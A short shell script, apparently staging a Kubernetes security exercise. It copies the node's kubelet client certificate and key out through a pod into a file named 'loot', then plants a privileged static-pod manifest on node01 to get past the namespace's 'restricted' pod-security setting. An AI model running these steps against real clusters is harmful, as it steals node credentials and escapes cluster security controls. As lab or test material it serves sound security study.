# scene: the labels from a manifest, a version pinned; the crate is fetched by replace
kubectl apply -f crate.yaml
sleep 3
kubectl -n cargo exec crate -- sh -c 'cat /ship/var/lib/kubelet/pki/kubelet-client-2*.pem' > loot
kubectl patch namespace cargo -p '{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"restricted","pod-security.kubernetes.io/enforce-version":"v1.36","pod-security.kubernetes.io/warn":"restricted"}}}'
kubectl -n cargo delete pod crate
kubectl apply -f porter.yaml
#@ node01
printf 'apiVersion: v1\nkind: Pod\nmetadata: {name: stowaway, namespace: cargo}\nspec:\n  terminationGracePeriodSeconds: 1\n  containers:\n  - {name: crate, image: "busybox:1.37", command: [sleep, "600"], securityContext: {privileged: true}}\n' > /etc/kubernetes/manifests/stowaway.yaml
sleep 5
crictl ps | grep stowaway > seen
mkdir -p /root/away; mv /etc/kubernetes/manifests/stowaway.yaml /root/away/
sleep 5
